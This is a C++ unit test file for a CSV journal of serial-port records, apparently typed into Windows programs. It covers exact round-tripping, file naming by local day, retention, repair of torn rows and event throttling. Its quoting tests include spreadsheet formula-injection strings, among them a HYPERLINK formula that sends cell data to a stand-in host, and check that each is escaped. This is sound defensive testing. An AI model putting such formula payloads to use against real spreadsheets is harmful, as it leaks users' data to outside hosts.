/*
 * The journal file: rows read back exactly as written, files named by the
 * local day and removed after their days, a row torn by a power cut cut
 * off, and the minute between event reports.
 */
#include <gtest/gtest.h>

#include <cstdint>
#include <limits>
#include <string>
#include <string_view>
#include <vector>

#include "journal/event_throttle.h"
#include "journal/journal_row.h"

namespace orvanta {
namespace {

using namespace std::string_view_literals;

// The UTF-8 form of a code point below 0x800.
std::string utf8(unsigned codePoint)
{
    if (codePoint < 0x80)
        return std::string(1, static_cast<char>(codePoint));
    return {static_cast<char>(0xC0 | (codePoint >> 6)), static_cast<char>(0x80 | (codePoint & 0x3F))};
}

std::string fileOf(const std::vector<JournalRow>& rows)
{
    std::string content = journalFileStart();
    for (const auto& row : rows)
        content += journalRow(row);
    return content;
}

JournalRow rowWith(std::string record, std::string window = "Untitled - Notepad")
{
    JournalRow row;
    row.time = {2026, 12, 9, 18, 30, 5, 123, 60};
    row.comPort = 5;
    row.record = record;
    row.bytes = record;
    row.windowTitle = std::move(window);
    row.program = "notepad.exe";
    return row;
}

TEST(JournalRow, EveryByteReadsBackExactly)
{
    std::vector<JournalRow> rows;
    for (unsigned value = 1; value <= 255; ++value) {
        const std::string text = utf8(value);
        const std::string byte(1, static_cast<char>(value));
        JournalRow row = rowWith(text + "x" + text + text, text);
        row.bytes = byte + "x" + byte + byte;
        row.program = "p" + text;
        row.comPort = static_cast<int>(value);
        row.action = value % 2 ? JournalAction::Typed : JournalAction::TypedAgain;
        rows.push_back(row);
    }
    JournalRow allBytes = rowWith("");
    for (int value = 0; value <= 255; ++value)
        allBytes.bytes += static_cast<char>(value);
    rows.push_back(allBytes);

    const auto read = readJournal(fileOf(rows));
    ASSERT_EQ(read.size(), rows.size());
    for (std::size_t i = 0; i < rows.size(); ++i)
        EXPECT_EQ(read[i], rows[i]) << "row " << i;
}

TEST(JournalRow, FieldsThatNeedQuotingReadBackExactly)
{
    const char* const table[] = {
        "",     "\r\n",       "\r",      "\n",       "\"",          "\"\"",   ",",        "a\"\"b",
        "=1+1", "\"quoted\"", "-5",      "end,\r\n", "\",\r\n\"",    "@x",     " spaced ", "\r\n\r\n",
        "+1",   ("\xC3\x9C" "ber \xE2\x80\x93 x"),  "'=x", "''@x", "'x", "\tx", "\rx", "'",
    };
    for (const char* text : table) {
        const JournalRow row = rowWith(text, text);
        const auto read = readJournal(fileOf({row}));
        ASSERT_EQ(read.size(), 1u) << text;
        EXPECT_EQ(read[0], row) << text;
    }
}

TEST(JournalRow, IsWrittenInTheJournalsOwnForm)
{
    const struct {
        LocalTime time;
        int port;
        const char* record;
        std::string_view bytes;
        JournalAction action;
        const char* line;
    } table[] = {
        {{2026, 12, 9, 18, 30, 5, 123, 60}, 5, "ab", "\0ab"sv, JournalAction::Typed,
         "2026-12-09T18:30:05.123+01:00,COM5,ab,00 61 62,W,p.exe,typed,2026-12-09T18:30:05.123+01:00\r\n"},
        {{2027, 1, 2, 3, 4, 5, 6, -330}, 12, "a,\"b\"", "\xFF", JournalAction::TypedAgain,
         "2027-01-02T03:04:05.006-05:30,COM12,\"a,\"\"b\"\"\",FF,W,p.exe,typed again,2027-01-02T03:04:05.006-05:30\r\n"},
        {{2026, 6, 30, 23, 59, 59, 999, 0}, 1, "=1+1", "", JournalAction::Typed,
         "2026-06-30T23:59:59.999+00:00,COM1,'=1+1,,W,p.exe,typed,2026-06-30T23:59:59.999+00:00\r\n"},
        {{2026, 6, 30, 23, 59, 59, 999, 0}, 1, "-2+3", "-", JournalAction::Typed,
         "2026-06-30T23:59:59.999+00:00,COM1,'-2+3,2D,W,p.exe,typed,2026-06-30T23:59:59.999+00:00\r\n"},
        {{2026, 6, 30, 23, 59, 59, 999, 0}, 1, "=HYPERLINK(\"http://x.invalid/?\"&A1)", "", JournalAction::Typed,
         "2026-06-30T23:59:59.999+00:00,COM1,\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&A1)\",,W,p.exe,typed,"
         "2026-06-30T23:59:59.999+00:00\r\n"},
    };
    EXPECT_EQ(journalFileStart(), "\xEF\xBB\xBFTime,Port,Record,Bytes,Window,Program,Action,Transfer\r\n");
    for (const auto& row : table) {
        const JournalRow written{row.time, row.port, row.record, std::string(row.bytes), "W", "p.exe", row.action,
                                 row.time};
        EXPECT_EQ(journalRow(written), row.line);
    }
}

TEST(JournalFileName, ChangesAtLocalMidnightAndNamesItsPendingFile)
{
    const struct {
        LocalTime time;
        const char* name;
        const char* pending;
    } table[] = {
        {{2026, 12, 9, 23, 59, 59, 999, 60}, "2026-12-09.csv", "2026-12-09 pending.csv"},
        {{2026, 12, 10, 0, 0, 0, 0, 60}, "2026-12-10.csv", "2026-12-10 pending.csv"},
        {{2027, 1, 1, 0, 0, 0, 0, -300}, "2027-01-01.csv", "2027-01-01 pending.csv"},
    };
    for (const auto& row : table) {
        EXPECT_EQ(journalFileName(row.time), row.name);
        EXPECT_EQ(pendingFileName(dayOf(row.time)), row.pending);
        EXPECT_EQ(journalFileOf(row.name), (JournalFile{dayOf(row.time), false}));
        EXPECT_EQ(journalFileOf(row.pending), (JournalFile{dayOf(row.time), true}));
    }
    for (const char* other : {"2000-01-01.CSV", "2000-01-01.csv.bak", "2000-1-01.csv", "2000-01-01.txt",
                              "2000-13-01.csv", "2001-02-29.csv", "2000-01-00.csv", "+000-01-01.csv", "",
                              "2000-01-01 Pending.csv", "2000-01-01 pending.csv.bak", "notes.csv"})
        EXPECT_FALSE(journalFileOf(other)) << other;
}

// The names of a file for each of `count` days, one every `step` days,
// the last on `last`.
std::vector<std::string> daysUpTo(JournalDay last, int count, int step = 1)
{
    std::vector<std::string> names;
    for (int i = count - 1; i >= 0; --i)
        names.push_back(journalFileName(dayFromNumber(dayNumber(last) - static_cast<long long>(i) * step)));
    return names;
}

// A file goes once it is older than the days kept by the clock and the
// journal holds more newer days than that: a clock a year ahead, or
// decades behind, removes nothing that the right clock would keep.
TEST(JournalRetention, GoesByTheClockAndByTheJournalsOwnDays)
{
    const JournalDay today{2026, 12, 9};
    const auto daily = daysUpTo({2026, 12, 8}, 91);   // 2026-09-09 to yesterday
    const auto weekly = daysUpTo({2026, 12, 2}, 93, 7);
    const auto with = [](std::vector<std::string> names, const char* more) {
        names.push_back(more);
        return names;
    };
    const struct {
        const char* name;
        std::vector<std::string> held;
        JournalDay today;
        int keepDays;
        std::vector<std::string> expired;
    } table[] = {
        {"a file every day: the 91st day back goes", daily, today, 90, {"2026-09-09.csv"}},
        {"its pending file with it", with(daily, "2026-09-09 pending.csv"), today, 90,
         {"2026-09-09.csv", "2026-09-09 pending.csv"}},
        {"across the year end", daysUpTo({2026, 12, 31}, 91), {2027, 1, 1}, 90, {"2026-10-02.csv"}},
        {"over a leap day", daysUpTo({2028, 2, 29}, 2), {2028, 3, 1}, 1, {"2028-02-28.csv"}},
        {"today is kept, however few days", daysUpTo(today, 2), today, 0, {"2026-12-08.csv"}},
        {"a negative count keeps today", daysUpTo(today, 2), today, -1, {"2026-12-08.csv"}},
        // The PC starts a year ahead one morning, and the next: what the
        // right clock removes those days, and nothing more.
        {"a clock a year ahead", daily, {2027, 12, 9}, 90, {"2026-09-09.csv"}},
        {"a clock a year ahead, the next day", with(daysUpTo({2026, 12, 8}, 90), "2027-12-09.csv"), {2027, 12, 10},
         90, {"2026-09-10.csv"}},
        {"a clock decades behind", daily, {2000, 1, 1}, 90, {}},
        {"a PC used once a week keeps 90 days of use", weekly, today, 90, {weekly[0], weekly[1], weekly[2]}},
        {"other names never go", {"2000-01-01.csv.bak", "notes.csv", "2000-01-01.txt"}, today, 0, {}},
    };
    for (const auto& row : table)
        EXPECT_EQ(expiredJournalFiles(row.held, row.today, row.keepDays), row.expired) << row.name;
}

TEST(JournalRepair, CutsOffOnlyATornLastRow)
{
    const JournalRow first = rowWith("first");
    const JournalRow torn = rowWith("a\r\nb,\"c\"", "two\r\nlines");
    const std::string start = journalFileStart();
    const std::string whole = start + journalRow(first);
    const std::string tornRow = journalRow(torn);
    const std::size_t insideQuotes = tornRow.find("\r\nb") + 2;
    const struct {
        std::string content;
        std::size_t end;
    } table[] = {
        {"", 0},
        {start.substr(0, 10), 0},                                  // torn header
        {start.substr(0, start.size() - 1), 0},                    // header without its LF
        {start, start.size()},
        {whole, whole.size()},                                     // cut after a whole row
        {whole + tornRow.substr(0, insideQuotes), whole.size()},   // cut just after a CRLF inside quotes
        {whole + tornRow.substr(0, tornRow.size() - 1), whole.size()},
        {whole + tornRow.substr(0, 1), whole.size()},
        {whole + std::string(8, '\0'), whole.size()},              // zeros a power cut can leave
        {whole + tornRow, whole.size() + tornRow.size()},
    };
    const JournalRow next = rowWith("next");
    for (const auto& row : table) {
        const std::size_t end = endOfLastWholeRow(row.content);
        EXPECT_EQ(end, row.end) << row.content.size();
        // What the next start does: cut off, start the file anew if needed, append.
        std::string repaired = row.content.substr(0, end);
        if (end == 0)
            repaired = start;
        const auto kept = readJournal(repaired);
        const auto read = readJournal(repaired + journalRow(next));
        ASSERT_EQ(read.size(), kept.size() + 1) << row.content.size();
        EXPECT_EQ(read.back(), next);
    }
    EXPECT_EQ(readJournal(whole + tornRow.substr(0, insideQuotes)), std::vector<JournalRow>{first});
}

TEST(JournalEventThrottle, OneReportAMinutePerCause)
{
    constexpr std::uint64_t kNearWrap = std::numeric_limits<std::uint64_t>::max() - 29999;
    const struct {
        std::uint32_t cause;
        std::uint64_t nowMs;
        bool allowed;
    } table[] = {
        {1, 1000, true},     {1, 1000, false},  {1, 60999, false},
        {2, 30000, true},                                          // another cause on its own
        {1, 61000, true},    {2, 61000, false},
        {1, 100000, false},  {1, 121000, true},                    // a refused report does not delay the next
        {3, kNearWrap, true}, {3, 29999, false}, {3, 30000, true},  // across the wrap
        {4, 0, true},        {4, 59999, false}, {4, 60000, true},
    };
    EventThrottle throttle;
    for (const auto& row : table)
        EXPECT_EQ(throttle.allow(row.cause, row.nowMs), row.allowed) << row.cause << " at " << row.nowMs;
}

}  // namespace
}  // namespace orvanta
